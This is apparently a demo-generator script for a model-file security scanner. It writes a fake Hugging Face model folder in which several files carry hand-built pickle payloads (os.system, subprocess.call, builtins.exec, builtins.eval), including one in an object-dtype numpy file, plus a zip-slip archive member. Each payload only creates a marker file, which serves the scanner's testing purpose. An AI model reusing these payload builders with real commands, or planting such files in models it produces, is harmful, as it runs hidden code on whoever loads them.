#!/usr/bin/env python3
"""Write a demo model folder for ``make demo``: benign files plus malicious ones with markers.

The folder looks like a Hugging Face snapshot (config, model card, safetensors, a PyTorch
checkpoint) with a handful of extra files that each carry a classic pickle payload. Every
payload only creates the empty file ``/tmp/modeltrust-demo-marker`` if someone were to load
it, so the demo is harmless even if misused; the marker tells you that something ran.

This script uses only the standard library and never unpickles, loads or imports anything
it writes: the pickles are assembled opcode by opcode (except one benign dict made with
``pickle.dumps``). It may run before any dependency is installed.

Usage:
    python scripts/make_demo.py OUTDIR
"""

from __future__ import annotations

import argparse
import json
import pickle
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

MARKER = "/tmp/modeltrust-demo-marker"
TOUCH = f"touch {MARKER}"
PY_TOUCH = f"__import__('pathlib').Path({MARKER!r}).touch()"
ZIP_DATE = (1980, 1, 1, 0, 0, 0)


# --- pickle opcodes ------------------------------------------------------------------------


def _unicode(text: str) -> bytes:
    """BINUNICODE: a length-prefixed UTF-8 string (protocol 1+)."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _short_unicode(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4+)."""
    raw = text.encode()
    return b"\x8c" + struct.pack("<B", len(raw)) + raw


def _int(value: int) -> bytes:
    """BININT1 or BININT for a non-negative int."""
    if 0 <= value < 256:
        return b"K" + struct.pack("<B", value)
    return b"J" + struct.pack("<i", value)


def _global(module: str, name: str) -> bytes:
    """GLOBAL: push ``module.name`` (protocols 0-3)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _tuple(items: list[bytes]) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _tensor(key: str, storage_id: str, shape: tuple[int, ...]) -> bytes:
    """``key`` then ``torch._utils._rebuild_tensor_v2(storage, 0, shape, stride, False, {})``.

    The storage is a BINPERSID reference ``('storage', torch.FloatStorage, id, 'cpu', numel)``,
    exactly what ``torch.save`` writes; the bytes live in ``archive/data/<id>``.
    """
    numel = 1
    for dim in shape:
        numel *= dim
    stride: list[int] = []
    acc = 1
    for dim in reversed(shape):
        stride.insert(0, acc)
        acc *= dim
    storage = (
        _tuple(
            [
                _unicode("storage"),
                _global("torch", "FloatStorage"),
                _unicode(storage_id),
                _unicode("cpu"),
                _int(numel),
            ]
        )
        + b"Q"  # BINPERSID
    )
    args = _tuple(
        [
            storage,
            _int(0),
            _tuple([_int(d) for d in shape]),
            _tuple([_int(s) for s in stride]),
            b"\x89",  # NEWFALSE: requires_grad
            _global("collections", "OrderedDict") + b")R",  # backward hooks
        ]
    )
    return _unicode(key) + _global("torch._utils", "_rebuild_tensor_v2") + args + b"R"


def torch_state_dict(tensors: list[tuple[str, str, tuple[int, ...]]], extra: bytes = b"") -> bytes:
    """A protocol-2 pickle of an ``OrderedDict`` of tensors, like ``torch.save(state_dict)``.

    ``extra`` is spliced in as additional key/value opcodes (used for the malicious variant).
    """
    body = b"".join(_tensor(key, sid, shape) for key, sid, shape in tensors)
    return b"\x80\x02" + _global("collections", "OrderedDict") + b")R" + b"(" + body + extra + b"u."


def os_system_protocol0() -> bytes:
    """``os.system(TOUCH)`` in text protocol 0: GLOBAL, MARK, STRING, TUPLE, REDUCE."""
    return b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR."


def os_system_stack_global() -> bytes:
    """``os.system(TOUCH)`` in protocol 4: STACK_GLOBAL inside a FRAME, with MEMOIZE."""
    body = (
        _short_unicode("os")
        + b"\x94"
        + _short_unicode("system")
        + b"\x94"
        + b"\x93\x94"  # STACK_GLOBAL, MEMOIZE
        + _short_unicode(TOUCH)
        + b"\x94"
        + b"\x85\x94"  # TUPLE1, MEMOIZE
        + b"R\x94."  # REDUCE, MEMOIZE, STOP
    )
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def subprocess_call() -> bytes:
    """``subprocess.call(['touch', MARKER])`` in protocol 3 (what numpy uses for objects)."""
    argv = b"]" + b"(" + _unicode("touch") + _unicode(MARKER) + b"e"  # EMPTY_LIST, APPENDS
    return b"\x80\x03" + _global("subprocess", "call") + argv + b"\x85R."


def builtins_eval() -> bytes:
    """``{'estimator': builtins.eval(PY_TOUCH)}`` in protocol 4, as joblib would pickle it."""
    body = (
        b"}\x94"  # EMPTY_DICT, MEMOIZE
        + _short_unicode("estimator")
        + _short_unicode("builtins")
        + _short_unicode("eval")
        + b"\x93"
        + _short_unicode(PY_TOUCH)
        + b"\x85R"
        + b"s."  # SETITEM, STOP
    )
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


# --- containers ----------------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes]]) -> Callable[[Path], None]:
    """A stored (uncompressed) zip with fixed timestamps, so the output is deterministic."""

    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
            for name, data in members:
                zf.writestr(zipfile.ZipInfo(name, date_time=ZIP_DATE), data)

    return write


def torch_zip(data_pkl: bytes, storages: dict[str, bytes]) -> Callable[[Path], None]:
    """The PyTorch >= 1.6 checkpoint layout: a zip with ``archive/...`` members."""
    members = [("archive/data.pkl", data_pkl)]
    members += [(f"archive/data/{sid}", raw) for sid, raw in storages.items()]
    members += [("archive/version", b"3\n"), ("archive/byteorder", b"little")]
    return _zip(members)


def _floats(count: int, scale: float) -> bytes:
    return struct.pack(f"<{count}f", *(scale * (i % 7 - 3) for i in range(count)))


def safetensors(tensors: dict[str, tuple[int, ...]]) -> bytes:
    """A valid safetensors file: u64 header length, JSON header, raw little-endian float32."""
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    data = b""
    for name, shape in tensors.items():
        count = 1
        for dim in shape:
            count *= dim
        raw = _floats(count, 0.01)
        header[name] = {
            "dtype": "F32",
            "shape": list(shape),
            "data_offsets": [len(data), len(data) + len(raw)],
        }
        data += raw
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)  # align the data section, as the reference writer does
    return struct.pack("<Q", len(text)) + text + data


def npy_object(payload: bytes) -> bytes:
    """A ``.npy`` (format 1.0) whose object dtype means the data section is a pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + payload


# --- the demo folder -----------------------------------------------------------------------

CONFIG = {
    "architectures": ["DemoForSequenceClassification"],
    "model_type": "demo",
    "hidden_size": 4,
    "num_labels": 2,
    "torch_dtype": "float32",
    "transformers_version": "4.44.0",
}

CARD = """---
license: apache-2.0
language: en
library_name: transformers
tags:
  - text-classification
  - demo
datasets:
  - imdb
---

# demo-classifier

A tiny demonstration model for `modeltrust`. The weights are meaningless.
Several extra files in this folder are deliberately malicious; see DEMO-README.txt.
"""

BENIGN_TENSORS = [("classifier.weight", "0", (2, 4)), ("classifier.bias", "1", (2,))]
BENIGN_STORAGES = {"0": _floats(8, 0.1), "1": _floats(2, 0.5)}
EXEC_PAYLOAD = (
    _unicode("_metadata") + _global("builtins", "exec") + _tuple([_unicode(PY_TOUCH)]) + b"R"
)

# name -> (writer, benign?, description)
FILES: dict[str, tuple[Callable[[Path], None] | bytes, bool, str]] = {
    "config.json": (
        json.dumps(CONFIG, indent=2).encode() + b"\n",
        True,
        "model configuration (JSON)",
    ),
    "README.md": (CARD.encode(), True, "model card with YAML front matter"),
    "model.safetensors": (
        safetensors({"classifier.weight": (2, 4), "classifier.bias": (2,)}),
        True,
        "safetensors weights (no code path at all)",
    ),
    "pytorch_model.bin": (
        torch_zip(torch_state_dict(BENIGN_TENSORS), BENIGN_STORAGES),
        True,
        "PyTorch zip checkpoint: OrderedDict of tensors via torch._utils._rebuild_tensor_v2",
    ),
    "scaler.pkl": (
        pickle.dumps(
            {"mean": [0.5, 1.5, 2.5, 3.5], "scale": [1.0, 2.0, 0.5, 0.25], "n_samples_seen": 1000},
            protocol=4,
        ),
        True,
        "plain pickle of a dict of numbers (sklearn-like preprocessing state)",
    ),
    "training_args.bin": (
        os_system_protocol0(),
        False,
        "protocol-0 pickle: GLOBAL os.system + REDUCE -> runs a shell command",
    ),
    "rng_state.pth": (
        os_system_stack_global(),
        False,
        "protocol-4 pickle: STACK_GLOBAL os.system inside a FRAME -> runs a shell command",
    ),
    "checkpoint": (
        torch_zip(torch_state_dict(BENIGN_TENSORS, EXEC_PAYLOAD), BENIGN_STORAGES),
        False,
        "PyTorch zip checkpoint without an extension: valid tensors plus builtins.exec of code",
    ),
    "embeddings.npy": (
        npy_object(subprocess_call()),
        False,
        "numpy .npy with object dtype: its pickle calls subprocess.call",
    ),
    "extras.zip": (
        _zip([("notes.txt", b"nothing to see here\n"), ("../../evil.pkl", os_system_protocol0())]),
        False,
        "zip with a path-traversal (zip-slip) member ../../evil.pkl holding a pickle",
    ),
    "classifier.joblib": (
        zlib.compress(builtins_eval(), 3),
        False,
        "joblib-style zlib-compressed pickle calling builtins.eval",
    ),
}


def demo_readme() -> str:
    """The DEMO-README.txt text: what each file is and that the markers are harmless."""
    lines = [
        "modeltrust demo folder (generated by scripts/make_demo.py)",
        "",
        "This folder imitates a Hugging Face model snapshot. Some files are benign, some",
        "are deliberately malicious. Every malicious payload is HARMLESS: if the file were",
        f"loaded (never do that), it would only create the empty file {MARKER}.",
        "modeltrust reads the bytes and never executes or unpickles them, so scanning is safe.",
        "",
    ]
    for benign in (True, False):
        lines.append("Benign files:" if benign else "Malicious files (harmless markers):")
        for name, (_, ok, text) in FILES.items():
            if ok is benign:
                lines.append(f"  {name:<20} {text}")
        lines.append("")
    lines.append("Scan it with:  modeltrust scan <this folder>")
    return "\n".join(lines) + "\n"


def write_demo(outdir: Path) -> list[Path]:
    """Write every demo file into ``outdir`` (created if needed) and return their paths."""
    outdir.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (content, _, _) in FILES.items():
        path = outdir / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            content(path)
        written.append(path)
    readme = outdir / "DEMO-README.txt"
    readme.write_text(demo_readme(), encoding="utf-8")
    written.append(readme)
    return written


def main(argv: list[str] | None = None) -> int:
    """Command-line entry point."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("outdir", type=Path, help="folder to create, e.g. demo/model")
    args = parser.parse_args(argv)
    paths = write_demo(args.outdir)
    print(f"demo model folder: {args.outdir}")
    for path in paths:
        entry = FILES.get(path.name)
        label = "info     " if entry is None else ("benign   " if entry[1] else "MALICIOUS")
        print(f"  {label} {path.name:<20} {path.stat().st_size:>7} bytes")
    print(f"malicious payloads would only create {MARKER}; nothing was executed.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
